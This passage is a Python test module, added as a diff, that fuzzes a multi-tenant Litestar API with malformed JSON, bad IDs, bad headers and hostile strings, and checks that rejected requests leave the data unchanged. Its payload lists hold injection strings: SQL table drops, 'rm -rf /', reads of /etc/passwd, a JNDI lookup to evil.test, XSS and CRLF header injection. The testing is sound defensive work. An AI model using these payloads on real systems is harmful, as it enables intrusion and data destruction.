@@ -1,0 +1,1153 @@
+"""Every endpoint of the app, fed bad input.
+
+For each (method, route template) the app serves, a table of hostile requests is sent with valid
+credentials (or deliberately broken ones): malformed JSON, wrong JSON types, unknown and missing
+fields, wrong field types, empty / over-long / control-character / unicode-edge / injection-shaped
+strings, huge numbers, bad paging parameters, bad path ids, oversized bodies, wrong Content-Type,
+bad Authorization and junk X-Request-ID headers, wrong methods and unknown sub-paths.
+
+Every response must be below 500; every 4xx must be RFC 9457 problem+json whose ``status`` is the
+HTTP status and which carries the request id; cases with a clear answer (400, 401, 404, 405, 413,
+415, 422) must get exactly that. Finally, the tenant's data (and the row counts of every table)
+must equal what the successful responses said they did: no rejected request may change anything.
+
+``test_table_covers_every_endpoint`` enumerates the app's routes, so a new endpoint without an entry
+in ``ENDPOINTS`` fails the suite.
+"""
+
+from __future__ import annotations
+
+import base64
+import itertools
+import json
+import os
+import re
+import uuid
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass, field
+from typing import Any
+
+import asyncpg
+import httpx
+import pytest
+from litestar import Litestar
+from litestar.routes import HTTPRoute
+from litestar.testing import AsyncTestClient
+
+Client = AsyncTestClient[Litestar]
+
+JSON = "application/json"
+PROBLEM = "application/problem+json"
+MAX_BODY = 1024 * 1024  # Settings.max_body_bytes default
+REQUEST_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._:\-]{0,127}$")
+SKIPPED_METHODS = {"HEAD", "OPTIONS"}
+
+
+def app_endpoints(app: Litestar) -> dict[tuple[str, str], HTTPRoute]:
+    """(method, path template) -> route for everything the app serves, HEAD/OPTIONS aside."""
+    return {
+        (method, route.path): route
+        for route in app.routes
+        if isinstance(route, HTTPRoute)
+        for method in route.methods
+        if method not in SKIPPED_METHODS
+    }
+
+
+# --------------------------------------------------------------------------------------------------
+# Requests and their checks
+# --------------------------------------------------------------------------------------------------
+
+Header = tuple[str, str | bytes]
+
+
+@dataclass(frozen=True)
+class Case:
+    group: str
+    name: str
+    method: str
+    path: str
+    expect: frozenset[int]
+    headers: tuple[Header, ...] = ()
+    content: bytes | None = None
+    chunked: bool = False
+    sent: dict[str, Any] | None = None  # body values that must come back verbatim on success
+    target: str | None = None  # id of the resource the request addresses, if any
+    request_id: bytes | None = None  # the X-Request-ID sent, if any
+
+    @property
+    def label(self) -> str:
+        path = self.path if len(self.path) <= 120 else self.path[:120] + f"...({len(self.path)} chars)"
+        return f"{self.method} {path} [{self.group}/{self.name}]"
+
+
+@dataclass
+class Result:
+    status: int
+    headers: httpx.Headers
+    body: bytes
+
+    def json(self) -> Any:
+        return json.loads(self.body)
+
+
+def _short(data: bytes, limit: int = 400) -> str:
+    text = " ".join(data.decode("utf-8", "replace").split())
+    return text if len(text) <= limit else text[:limit] + f"...({len(text)} chars)"
+
+
+async def send(client: Client, case: Case) -> Result:
+    if case.chunked:
+        return _send_chunked(client, case)
+    r = await client.request(case.method, case.path, headers=list(case.headers), content=case.content)
+    return Result(r.status_code, r.headers, r.content)
+
+
+def _send_chunked(client: Client, case: Case) -> Result:
+    """A body streamed without Content-Length (chunked transfer), straight through ASGI: httpx's async
+    client cannot stream to Litestar's test transport."""
+    assert case.content is not None
+    raw_headers = [(b"host", b"127.0.0.1"), (b"transfer-encoding", b"chunked")]
+    raw_headers += [(k.lower().encode(), v if isinstance(v, bytes) else v.encode()) for k, v in case.headers]
+    path, _, query = case.path.partition("?")
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": case.method,
+        "scheme": "http",
+        "path": path,
+        "raw_path": path.encode(),
+        "root_path": "",
+        "query_string": query.encode(),
+        "headers": raw_headers,
+        "client": ("testclient", 50000),
+        "server": ("127.0.0.1", 80),
+        "extensions": {"http.response.template": {}},
+    }
+    step = 64 * 1024
+    chunks = [case.content[i : i + step] for i in range(0, len(case.content), step)]
+    out: dict[str, Any] = {"status": 0, "headers": [], "body": b""}
+
+    async def receive() -> dict[str, Any]:
+        if chunks:
+            chunk = chunks.pop(0)
+            return {"type": "http.request", "body": chunk, "more_body": bool(chunks)}
+        return {"type": "http.disconnect"}
+
+    async def send_(message: dict[str, Any]) -> None:
+        if message["type"] == "http.response.start":
+            out["status"] = message["status"]
+            out["headers"] = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in message.get("headers", [])]
+        elif message["type"] == "http.response.body":
+            out["body"] += message.get("body", b"")
+
+    client.blocking_portal.call(client.app, scope, receive, send_)
+    return Result(out["status"], httpx.Headers(out["headers"]), out["body"])
+
+
+def check(case: Case, r: Result, echo: Callable[[Any], dict[str, Any]] | None) -> list[str]:
+    """Everything wrong with one response, as readable lines."""
+    errors: list[str] = []
+
+    def fail(why: str) -> None:
+        errors.append(f"{case.label} -> {r.status}: {why}; body: {_short(r.body)}")
+
+    if r.status >= 500:
+        fail("server error")
+    elif r.status not in case.expect:
+        fail(f"expected {sorted(case.expect)}")
+
+    rid = r.headers.get("x-request-id", "")
+    if not REQUEST_ID.match(rid):
+        fail(f"response X-Request-ID {rid!r} is not a well-formed id")
+    if case.request_id is not None:
+        sent = case.request_id.decode("latin-1")
+        if REQUEST_ID.match(sent) and rid != sent:
+            fail(f"well-formed X-Request-ID {sent!r} was not echoed (got {rid!r})")
+        if not REQUEST_ID.match(sent) and rid == sent:
+            fail("junk X-Request-ID was echoed back")
+
+    if r.status >= 400:
+        content_type = r.headers.get("content-type", "")
+        if not content_type.startswith(PROBLEM):
+            fail(f"error content-type is {content_type!r}, not {PROBLEM}")
+        else:
+            try:
+                problem = r.json()
+            except ValueError:
+                fail("problem body is not JSON")
+            else:
+                if not isinstance(problem, dict):
+                    fail("problem body is not an object")
+                else:
+                    if problem.get("status") != r.status:
+                        fail(f"problem status {problem.get('status')!r} != HTTP status")
+                    if not isinstance(problem.get("type"), str) or not isinstance(problem.get("title"), str):
+                        fail("problem lacks type/title")
+                    if problem.get("request_id") != rid or not rid:
+                        fail(f"problem request_id {problem.get('request_id')!r} != X-Request-ID {rid!r}")
+                    if r.status == 422 and not problem.get("errors"):
+                        fail("422 without an `errors` list")
+        if r.status == 401 and "www-authenticate" not in r.headers:
+            fail("401 without WWW-Authenticate")
+    elif 200 <= r.status < 300 and case.sent and echo is not None:
+        got = echo(r.json())
+        for name, value in case.sent.items():
+            if got.get(name) != value:
+                fail(f"field {name!r} came back as {got.get(name)!r}, sent {value!r}")
+    return errors
+
+
+# --------------------------------------------------------------------------------------------------
+# The tenant under attack and a model of what its data should be
+# --------------------------------------------------------------------------------------------------
+
+
+@dataclass
+class Ctx:
+    client: Client
+    token: str
+    tenant_id: str
+    owner_id: str
+    auth_key_id: str
+    victim_user: str
+    victim_key: str
+    revoked_token: str
+    missing: str
+    routes: dict[str, set[str]]
+    counter: Iterable[int] = field(default_factory=lambda: itertools.count(1))
+
+    @property
+    def auth(self) -> tuple[Header, ...]:
+        return (("Authorization", f"Bearer {self.token}"),)
+
+    def n(self) -> int:
+        return next(iter(self.counter))
+
+
+async def make_ctx(client: Client, tenant: dict[str, Any]) -> Ctx:
+    headers = tenant["headers"]
+    victim = await client.post("/v1/users", headers=headers, json={"email": "victim@acme.test", "name": "Victim"})
+    key = await client.post("/v1/api-keys", headers=headers, json={"name": "victim"})
+    revoked = await client.post("/v1/api-keys", headers=headers, json={"name": "revoked"})
+    assert victim.status_code == key.status_code == revoked.status_code == 201
+    gone = await client.delete(f"/v1/api-keys/{revoked.json()['id']}", headers=headers)
+    assert gone.status_code == 204
+    routes: dict[str, set[str]] = {}
+    for method, template in app_endpoints(client.app):
+        routes.setdefault(template, set()).add(method)
+    return Ctx(
+        client=client,
+        token=tenant["api_key"]["token"],
+        tenant_id=tenant["tenant"]["id"],
+        owner_id=tenant["user"]["id"],
+        auth_key_id=tenant["api_key"]["id"],
+        victim_user=victim.json()["id"],
+        victim_key=key.json()["id"],
+        revoked_token=revoked.json()["token"],
+        missing=str(uuid.uuid4()),
+        routes=routes,
+    )
+
+
+REVOKED = "<revoked>"
+TABLES = ("tenants", "users", "api_keys")
+
+
+@dataclass
+class State:
+    tenant: dict[str, Any]
+    users: dict[str, dict[str, Any]]
+    keys: dict[str, dict[str, Any]]
+    rows: dict[str, int]
+
+
+async def _all(client: Client, path: str, headers: dict[str, str]) -> list[dict[str, Any]]:
+    items: list[dict[str, Any]] = []
+    params: dict[str, Any] = {"limit": 100}
+    while True:
+        r = await client.get(path, params=params, headers=headers)
+        assert r.status_code == 200, r.text
+        items += r.json()["items"]
+        if not r.json()["next_cursor"]:
+            return items
+        params["cursor"] = r.json()["next_cursor"]
+
+
+async def snapshot(ctx: Ctx, pg_url: str) -> State:
+    headers = dict(ctx.auth)
+    tenant = await ctx.client.get("/v1/tenant", headers=headers)
+    assert tenant.status_code == 200, tenant.text
+    conn = await asyncpg.connect(pg_url.replace("postgresql+asyncpg://", "postgresql://"))
+    try:
+        rows = {t: int(await conn.fetchval(f"SELECT count(*) FROM {t}")) for t in TABLES}
+    finally:
+        await conn.close()
+    return State(
+        tenant=tenant.json(),
+        users={u["id"]: u for u in await _all(ctx.client, "/v1/users", headers)},
+        keys={k["id"]: k for k in await _all(ctx.client, "/v1/api-keys", headers)},
+        rows=rows,
+    )
+
+
+@dataclass
+class Model:
+    """What the tenant's data must be: the snapshot before, plus what each 2xx response reported."""
+
+    state: State
+    signups: int = 0
+
+    def apply(self, endpoint: tuple[str, str], case: Case, r: Result) -> None:
+        if not 200 <= r.status < 300:
+            return
+        match endpoint:
+            case ("POST", "/v1/signup"):
+                self.signups += 1
+            case ("PATCH", "/v1/tenant/config"):
+                self.state.tenant = r.json()
+            case ("POST", "/v1/users") | ("PATCH", "/v1/users/{user_id:uuid}"):
+                self.state.users[r.json()["id"]] = r.json()
+            case ("DELETE", "/v1/users/{user_id:uuid}"):
+                self.state.users.pop(str(case.target), None)
+            case ("POST", "/v1/api-keys"):
+                self.state.keys[r.json()["id"]] = {k: v for k, v in r.json().items() if k != "token"}
+            case ("DELETE", "/v1/api-keys/{key_id:uuid}") if case.target in self.state.keys:
+                self.state.keys[case.target] = {**self.state.keys[case.target], "revoked_at": REVOKED}
+
+    def differences(self, before: State, after: State) -> list[str]:
+        want = self.state
+        out: list[str] = []
+        if after.tenant != want.tenant:
+            out.append(f"tenant changed: expected {want.tenant}, found {after.tenant}")
+        if after.users != want.users:
+            for uid in sorted(set(want.users) | set(after.users)):
+                if want.users.get(uid) != after.users.get(uid):
+                    out.append(f"user {uid}: expected {want.users.get(uid)}, found {after.users.get(uid)}")
+        for kid in sorted(set(want.keys) | set(after.keys)):
+            w, a = want.keys.get(kid), after.keys.get(kid)
+            if w is not None and a is not None and w.get("revoked_at") == REVOKED and a.get("revoked_at"):
+                w = {**w, "revoked_at": a["revoked_at"]}
+            if w != a:
+                out.append(f"api key {kid}: expected {w}, found {a}")
+        expected_rows = {
+            "tenants": before.rows["tenants"] + self.signups,
+            "users": before.rows["users"] + self.signups + len(want.users) - len(before.users),
+            "api_keys": before.rows["api_keys"] + self.signups + len(want.keys) - len(before.keys),
+        }
+        if after.rows != expected_rows:
+            out.append(f"row counts: expected {expected_rows}, found {after.rows}")
+        return out
+
+
+# --------------------------------------------------------------------------------------------------
+# The table: one entry per endpoint
+# --------------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Field:
+    name: str
+    kind: str  # text | email | timezone | locale | rate
+    max_len: int = 0
+    required: bool = True
+
+
+@dataclass(frozen=True)
+class Body:
+    fields: tuple[Field, ...]
+    valid: Callable[[Ctx], dict[str, Any]]
+    echo: Callable[[Any], dict[str, Any]]  # response JSON -> {input field: value as returned}
+
+
+@dataclass(frozen=True)
+class Endpoint:
+    ok: frozenset[int]  # the status of the well-formed request to `target`
+    target: Callable[[Ctx], str]
+    auth: bool = True
+    body: Body | None = None
+    paged: bool = False
+    ids: str | None = None  # user | key | slug | schema: the kind of path parameter
+    # A well-formed request that must not change anything (DELETE: a missing id), for header-level cases.
+    safe: Callable[[Ctx], str] | None = None
+    safe_ok: frozenset[int] | None = None
+
+
+def _ok(*codes: int) -> frozenset[int]:
+    return frozenset(codes)
+
+
+SIGNUP = Body(
+    fields=(
+        Field("organization", "text", 200),
+        Field("owner_email", "email", 320),
+        Field("owner_name", "text", 200),
+        Field("timezone", "timezone", 64, required=False),
+        Field("locale", "locale", 35, required=False),
+    ),
+    valid=lambda c: {"organization": f"Org {c.n()}", "owner_email": f"owner{c.n()}@signup.test", "owner_name": "O"},
+    echo=lambda b: {
+        "organization": b["tenant"]["name"],
+        "owner_email": b["user"]["email"],
+        "owner_name": b["user"]["name"],
+        "timezone": b["tenant"]["config"]["timezone"],
+        "locale": b["tenant"]["config"]["locale"],
+    },
+)
+TENANT_CONFIG = Body(
+    fields=(
+        Field("display_name", "text", 200, required=False),
+        Field("timezone", "timezone", 64, required=False),
+        Field("locale", "locale", 35, required=False),
+        Field("rate_limit_per_minute", "rate", required=False),
+    ),
+    valid=lambda c: {"display_name": f"Acme {c.n()}"},
+    echo=lambda b: dict(b["config"]),
+)
+API_KEY = Body(fields=(Field("name", "text", 100),), valid=lambda c: {"name": f"key {c.n()}"}, echo=dict)
+USER_IN = Body(
+    fields=(Field("email", "email", 320), Field("name", "text", 200)),
+    valid=lambda c: {"email": f"user{c.n()}@acme.test", "name": f"User {c.n()}"},
+    echo=dict,
+)
+USER_PATCH = Body(
+    fields=(Field("email", "email", 320, required=False), Field("name", "text", 200, required=False)),
+    valid=lambda c: {"name": f"Victim {c.n()}"},
+    echo=dict,
+)
+
+ENDPOINTS: dict[tuple[str, str], Endpoint] = {
+    ("POST", "/v1/signup"): Endpoint(_ok(201), lambda c: "/v1/signup", auth=False, body=SIGNUP),
+    ("GET", "/v1/tenant"): Endpoint(_ok(200), lambda c: "/v1/tenant"),
+    ("PATCH", "/v1/tenant/config"): Endpoint(_ok(200), lambda c: "/v1/tenant/config", body=TENANT_CONFIG),
+    ("GET", "/v1/api-keys"): Endpoint(_ok(200), lambda c: "/v1/api-keys", paged=True),
+    ("POST", "/v1/api-keys"): Endpoint(_ok(201), lambda c: "/v1/api-keys", body=API_KEY),
+    ("DELETE", "/v1/api-keys/{key_id:uuid}"): Endpoint(
+        _ok(204),
+        lambda c: f"/v1/api-keys/{c.victim_key}",
+        ids="key",
+        safe=lambda c: f"/v1/api-keys/{c.missing}",
+        safe_ok=_ok(404),
+    ),
+    ("GET", "/v1/users"): Endpoint(_ok(200), lambda c: "/v1/users", paged=True),
+    ("POST", "/v1/users"): Endpoint(_ok(201), lambda c: "/v1/users", body=USER_IN),
+    ("GET", "/v1/users/{user_id:uuid}"): Endpoint(_ok(200), lambda c: f"/v1/users/{c.victim_user}", ids="user"),
+    ("PATCH", "/v1/users/{user_id:uuid}"): Endpoint(
+        _ok(200), lambda c: f"/v1/users/{c.victim_user}", body=USER_PATCH, ids="user"
+    ),
+    ("DELETE", "/v1/users/{user_id:uuid}"): Endpoint(
+        _ok(204),
+        lambda c: f"/v1/users/{c.victim_user}",
+        ids="user",
+        safe=lambda c: f"/v1/users/{c.missing}",
+        safe_ok=_ok(404),
+    ),
+    ("GET", "/healthz"): Endpoint(_ok(200), lambda c: "/healthz", auth=False),
+    ("GET", "/livez"): Endpoint(_ok(200), lambda c: "/livez", auth=False),
+    ("GET", "/problems/{slug:str}"): Endpoint(_ok(200), lambda c: "/problems/validation-error", auth=False, ids="slug"),
+    ("GET", "/openapi.json"): Endpoint(_ok(200), lambda c: "/openapi.json", auth=False),
+    ("GET", "/docs"): Endpoint(_ok(200), lambda c: "/docs", auth=False),
+    # Litestar's own schema router (OpenAPIConfig.path="/openapi").
+    ("GET", "/openapi"): Endpoint(_ok(200), lambda c: "/openapi", auth=False),
+    ("GET", "/openapi/openapi.json"): Endpoint(_ok(200), lambda c: "/openapi/openapi.json", auth=False),
+    # Its catch-all: every path below /openapi that no render plugin serves is a 404.
+    # Server bug today: for any sub-path not ending in .json/.yaml/.yml it answers a text/html 404.
+    ("GET", "/openapi/{path:str}"): Endpoint(_ok(404), lambda c: "/openapi/openapi.yaml", auth=False, ids="schema"),
+}
+
+
+# --------------------------------------------------------------------------------------------------
+# Bad values
+# --------------------------------------------------------------------------------------------------
+
+MALFORMED_JSON: list[tuple[str, bytes]] = [
+    ("truncated-object", b'{"a": '),
+    ("open-brace", b"{"),
+    ("trailing-comma", b'{"a": 1,}'),
+    ("single-quotes", b"{'a': 1}"),
+    ("unquoted-key", b"{a: 1}"),
+    ("bare-word", b"not json"),
+    ("extra-closing", b'{"a": 1}}'),
+    ("two-documents", b'{"a": 1} {"a": 2}'),
+    ("nan", b'{"a": NaN}'),
+    ("infinity", b'{"a": Infinity}'),
+    ("comment", b'{"a": 1 /* c */}'),
+    ("nul-byte", b"\x00"),
+    ("nul-inside", b'{"a":\x00 1}'),
+    ("whitespace-only", b"   \n\t "),
+    ("utf8-bom", b'\xef\xbb\xbf{"a": 1}'),
+    ("utf16-body", '{"a": 1}'.encode("utf-16")),
+    ("invalid-utf8-outside-string", b'\xff\xfe{"a": 1}'),
+    ("unterminated-string", b'{"a": "abc'),
+    ("bad-escape", b'{"a": "\\q"}'),
+    ("raw-control-char-in-string", b'{"a": "x\x01y"}'),
+    # Server bug today: 500 (RecursionError while decoding).
+    ("deeply-nested-array", b"[" * 10_000 + b"]" * 10_000),
+    ("deeply-nested-object", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
+]
+
+WRONG_TOP_LEVEL: list[tuple[str, bytes]] = [
+    ("array", b"[]"),
+    ("array-of-object", b"[{}]"),
+    ("string", b'"hello"'),
+    ("number", b"42"),
+    ("huge-number", str(2**70).encode()),
+    ("float", b"1.5"),
+    ("null", b"null"),
+    ("true", b"true"),
+]
+
+WRONG_TYPES_FOR_STRING: list[tuple[str, Any]] = [
+    ("int", 0),
+    ("negative", -1),
+    ("huge-int", 2**70),
+    ("huge-negative", -(2**70)),
+    ("float", 1.5),
+    ("big-float", 1e308),
+    ("bool", True),
+    ("null", None),
+    ("array", []),
+    ("array-of-string", ["x"]),
+    ("object", {}),
+    ("nosql-operator", {"$ne": ""}),
+]
+
+RATE_REJECTED: list[tuple[str, Any]] = [
+    ("zero", 0),
+    ("negative", -1),
+    ("above-max", 100_001),
+    ("int64-overflow", 2**63),
+    ("uint64-overflow", 2**64),
+    ("huge", 2**70),
+    ("huge-negative", -(2**70)),
+    ("fraction", 1.5),
+    ("bool", True),
+    ("array", []),
+    ("object", {}),
+    ("word", "many"),
+    ("empty-string", ""),
+]
+# Accepted by Litestar's lax decoding today; either answer is fine, but never a 5xx.
+RATE_LAX: list[tuple[str, Any]] = [("numeric-string", "100"), ("integral-float", 1000.0), ("exp-string", "1e3")]
+RATE_VALID: list[tuple[str, Any]] = [("null-resets", None), ("min", 1), ("max", 100_000)]
+
+# Raw JSON number tokens spliced into a field.
+RAW_NUMBERS: list[tuple[str, bytes]] = [
+    ("overflowing-float", b"1e400"),
+    ("overflowing-negative-float", b"-1e400"),
+    ("5000-digit-int", b"9" * 5000),
+]
+
+# Rejected for every kind of string field.
+BAD_STRINGS: list[tuple[str, str]] = [
+    ("empty", ""),
+    ("space", " "),
+    ("leading-space", " abc"),
+    ("trailing-space", "abc "),
+    ("tab", "\t"),
+    ("nul", "\x00"),
+    ("nul-inside", "ab\x00cd"),
+    ("newline-inside", "ab\ncd"),
+    ("crlf-inside", "ab\r\ncd"),
+    ("ansi-escape", "\x1b[31mred"),
+    ("del-inside", "ab\x7fcd"),
+    ("10k-chars", "x" * 10_000),
+]
+
+UNICODE_EDGE: list[tuple[str, str]] = [
+    ("rtl-override", "abc\u202edef"),
+    ("rtl-override-prefix", "\u202eevil"),
+    ("ltr-mark", "a\u200eb"),
+    ("zero-width-space", "a\u200bb"),
+    ("zero-width-only", "\u200b"),
+    ("zwj-sequence", "\U0001f469\u200d\U0001f4bb"),
+    ("emoji", "\U0001f980 Ferris"),
+    ("astral-math", "\U0001d518\U0001d52b\U0001d526"),
+    ("combining-marks", "e\u0301\u0301\u0301"),
+    ("bom-prefix", "\ufeffname"),
+    ("line-separator", "a\u2028b"),
+    ("nbsp-inside", "a\u00a0b"),
+    ("nbsp-edge", "\u00a0a"),
+    ("replacement-char", "\ufffd"),
+    ("noncharacter", "a\uffffb"),
+    ("private-use", "\ue000"),
+    ("fullwidth", "\uff21\uff22\uff23"),
+    ("cjk", "\u682a\u5f0f\u4f1a\u793e"),
+    ("arabic", "\u0634\u0631\u0643\u0629"),
+    ("cyrillic-homoglyph", "\u0410dmin"),
+]
+
+INJECTION: list[tuple[str, str]] = [
+    ("sql-drop", "'; DROP TABLE users; --"),
+    ("sql-or", "1' OR '1'='1"),
+    ("sql-dquote", '" OR "1"="1'),
+    ("sql-bobby", "Robert'); DROP TABLE students;--"),
+    ("sql-sleep", "'; SELECT pg_sleep(5); --"),
+    ("sql-union", "x' UNION SELECT secret_hash FROM api_keys --"),
+    ("shell-subst", "$(reboot)"),
+    ("shell-backticks", "`id`"),
+    ("shell-chain", "a; rm -rf / #"),
+    ("shell-pipe", "a | cat /etc/passwd"),
+    ("template", "{{7*7}}"),
+    ("el", "${7*7}"),
+    ("jndi", "${jndi:ldap://evil.test/a}"),
+    ("html-script", "<script>alert(1)</script>"),
+    ("html-img", "<img src=x onerror=alert(1)>"),
+    ("path-traversal", "../../../../etc/passwd"),
+    ("windows-traversal", "..\\..\\windows\\win.ini"),
+    ("percent-nul", "%00"),
+    ("format-string", "%s%s%s%n"),
+    ("escaped-nul-literal", "\\x00\\u0000"),
+    ("backslash", "\\"),
+    ("quote", '"'),
+    ("json-in-string", '{"role": "owner"}'),
+    ("null-word", "null"),
+    ("none-word", "None"),
+    ("nan-word", "NaN"),
+    ("proto", "__proto__"),
+]
+
+# The whole unicode/injection list goes to the first text field of a body and to emails on creation;
+# other string fields get this sample (same validation code path; the full list would mostly add runtime).
+SAMPLE = {
+    "rtl-override",
+    "zero-width-only",
+    "emoji",
+    "bom-prefix",
+    "sql-drop",
+    "shell-subst",
+    "path-traversal",
+    "nan-word",
+}
+
+BAD_EMAILS: list[tuple[str, str]] = [
+    ("no-at", "plainaddress"),
+    ("double-at", "a@@example.com"),
+    ("no-local", "@example.com"),
+    ("no-domain", "a@"),
+    ("single-label", "a@localhost"),
+    ("hyphen-label-start", "a@-example.com"),
+    ("hyphen-label-end", "a@example-.com"),
+    ("label-64", "a@" + "b" * 64 + ".com"),
+    ("local-65", "a" * 65 + "@example.com"),
+    ("total-321", "a@" + ".".join(["b" * 63] * 5)[:316] + ".io"),
+    ("space-inside", "a b@example.com"),
+    ("nul-in-local", "a\x00b@example.com"),
+    ("newline-header-injection", "a@example.com\nBcc: x@evil.test"),
+    ("sql-in-domain", "a@example.com'; DROP TABLE users; --"),
+    ("shell-in-domain", "a@$(reboot).com"),
+    ("unicode-domain", "a@b\u00fccher.de"),
+]
+# 64 x U+0130 (İ) in the local part and a 320-char total: valid for the schema, but str.lower() turns
+# each İ into two code points, so the normalised address no longer fits the 320-char column.
+GROWS_WHEN_LOWERED = "\u0130" * 64 + "@" + "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + "." + "d" * 60 + ".io"
+assert len(GROWS_WHEN_LOWERED) == 320
+
+BAD_TIMEZONES: list[tuple[str, str]] = [
+    ("unknown", "Foo/Bar"),
+    ("lowercase", "utc"),
+    ("traversal", "../../etc/passwd"),
+    ("shell", "UTC; rm -rf /"),
+    ("offset-out-of-range", "Etc/GMT+99"),
+    ("65-chars", "A" * 65),
+]
+GOOD_TIMEZONES: list[tuple[str, str]] = [("three-part", "America/Argentina/Buenos_Aires"), ("etc", "Etc/GMT+5")]
+BAD_LOCALES: list[tuple[str, str]] = [
+    ("one-letter", "e"),
+    ("word", "english"),
+    ("underscore", "en_GB"),
+    ("trailing-dash", "en-"),
+    ("leading-dash", "-en"),
+    ("double-dash", "en--GB"),
+    ("36-chars", "en-" + "-".join(["abcdefgh"] * 4)[:33]),
+]
+GOOD_LOCALES: list[tuple[str, str]] = [("region", "en-GB"), ("script-region", "zh-Hant-TW"), ("upper", "EN")]
+
+BAD_IDS: list[tuple[str, str]] = [
+    ("word", "not-a-uuid"),
+    ("zero", "0"),
+    ("negative", "-1"),
+    ("huge-number", str(2**70)),
+    ("1000-digits", "1" * 1000),
+    ("nul", "%00"),
+    ("invalid-utf8", "%ff"),
+    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
+    ("sql", "'%20OR%20'1'='1"),
+    ("bad-hex", "00000000-0000-0000-0000-00000000000g"),
+    ("uuid-plus-char", "00000000-0000-0000-0000-0000000000001"),
+    ("uuid-short", "00000000-0000-0000-0000-00000000000"),
+    ("leading-space", "%2000000000-0000-0000-0000-000000000000"),
+    ("emoji", "%F0%9F%A6%80"),
+    ("null-word", "null"),
+    ("object", "%7B%7D"),
+]
+
+BAD_SLUGS: list[tuple[str, str]] = [
+    ("unknown", "no-such-problem"),
+    ("nul", "%00"),
+    ("invalid-utf8", "%ff"),
+    ("10k-chars", "x" * 10_000),
+    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
+    ("uppercase", "VALIDATION-ERROR"),
+    ("suffix-nul", "validation-error%00"),
+    ("sql", "'%20OR%201=1--"),
+    ("emoji", "%F0%9F%A6%80"),
+    ("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+]
+
+BAD_SCHEMA_PATHS: list[tuple[str, str]] = [
+    ("yaml", "openapi.yaml"),
+    ("yml", "openapi.yml"),
+    ("unknown-page", "swagger"),
+    ("other-ui", "redoc"),
+    ("nul", "%00"),
+    ("5k-chars", "x" * 5_000),
+    ("nested", "a/b/c"),
+    ("encoded-traversal", "..%2f..%2fetc%2fpasswd"),
+]
+
+BAD_LIMITS: list[tuple[str, str]] = [
+    ("negative", "-1"),
+    ("zero", "0"),
+    ("above-max", "101"),
+    ("huge", str(2**70)),
+    ("huge-negative", str(-(2**70))),
+    ("word", "abc"),
+    ("empty", ""),
+    ("fraction", "1.5"),
+    ("nul", "%00"),
+    ("fullwidth-digit", "%EF%BC%91"),
+    ("hex", "0x10"),
+    ("nan", "NaN"),
+    ("infinity", "Infinity"),
+    ("sql", "1%20OR%201=1"),
+]
+LAX_LIMITS: list[tuple[str, str]] = [
+    ("exp", "1e1"),
+    ("underscore", "1_0"),
+    ("padded", "%201"),
+    ("repeated", "1&limit=2"),
+]
+
+
+def _b64(raw: bytes) -> str:
+    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
+
+
+BAD_CURSORS: list[tuple[str, str]] = [
+    ("punctuation", "!!!"),
+    ("3-bytes", "AAAA"),
+    ("15-bytes", _b64(b"\x01" * 15)),
+    ("17-bytes", _b64(b"\x01" * 17)),
+    ("65-chars", "A" * 65),
+    ("10k-chars", "A" * 10_000),
+    ("empty", ""),
+    ("nul", "%00"),
+    ("non-ascii", "%C3%A9"),
+    ("sql", "'%20OR%201=1--"),
+    ("repeated", "a&cursor=b"),
+]
+LAX_CURSORS: list[tuple[str, str]] = [
+    ("random-16-bytes", _b64(os.urandom(16))),
+    ("max-uuid", _b64(b"\xff" * 16)),
+    ("padded", base64.urlsafe_b64encode(b"\x00" * 16).decode().replace("=", "%3D")),
+]
+
+AUTH_VALUES: list[tuple[str, bytes | None]] = [
+    ("missing", None),
+    ("empty", b""),
+    ("scheme-only", b"Bearer"),
+    ("scheme-and-space", b"Bearer "),
+    ("basic", b"Basic dXNlcjpwYXNz"),
+    ("unknown-token", b"Bearer keel_" + b"A" * 43),
+    ("oversized-257", b"Bearer " + b"k" * 257),
+    ("oversized-10k", b"Bearer " + b"A" * 10_000),
+    ("oversized-100k", b"Bearer " + b"A" * 100_000),
+    ("nul-bytes", b"Bearer keel_\x00\x00\x00"),
+    ("control-chars", b"Bearer \x01\x02\x1b[0m"),
+    ("non-ascii", b"Bearer \xc3\xa9\xff\xfe"),
+    ("sql", b"Bearer ' OR '1'='1"),
+    ("crlf", b"Bearer x\r\nX-Injected: 1"),
+]
+
+JUNK_REQUEST_IDS: list[tuple[str, bytes]] = [
+    ("control-char", b"\x01junk"),
+    ("nul", b"\x00"),
+    ("10k-chars", b"x" * 10_000),
+    ("129-chars", b"a" * 129),
+    ("space", b"a b"),
+    ("html", b"<script>alert(1)</script>"),
+    ("traversal", b"../../etc/passwd"),
+    ("sql", b"' OR 1=1 --"),
+    ("invalid-utf8", b"\xff\xfe"),
+    ("utf8", "\u65e5\u672c".encode()),
+    ("empty", b""),
+    ("leading-dash", b"-abc"),
+    ("crlf", b"x\r\nSet-Cookie: a=b"),
+]
+
+OTHER_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND")
+
+
+# --------------------------------------------------------------------------------------------------
+# Case builders
+# --------------------------------------------------------------------------------------------------
+
+
+def _dumps(body: Any, ascii_only: bool = False) -> bytes:
+    return json.dumps(body, ensure_ascii=ascii_only).encode()
+
+
+def _splice(body: dict[str, Any], name: str, raw: bytes) -> bytes:
+    """``body`` as JSON with field ``name``'s value replaced by the raw JSON text ``raw``."""
+    marker = "\x1fSPLICE\x1f"
+    return _dumps({**body, name: marker}, ascii_only=True).replace(_dumps(marker, ascii_only=True), raw)
+
+
+def body_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
+    assert ep.body is not None
+    method, _ = key
+    spec = ep.body
+    path = ep.target(c)
+    target = c.victim_user if ep.ids == "user" else None
+    accepted = ep.ok
+    cases: list[Case] = []
+
+    def add(group: str, name: str, content: bytes, expect: Iterable[int], sent: dict[str, Any] | None = None) -> None:
+        headers = (*c.auth, ("Content-Type", JSON))
+        cases.append(Case(group, name, method, path, frozenset(expect), headers, content, sent=sent, target=target))
+
+    for name, raw in MALFORMED_JSON:
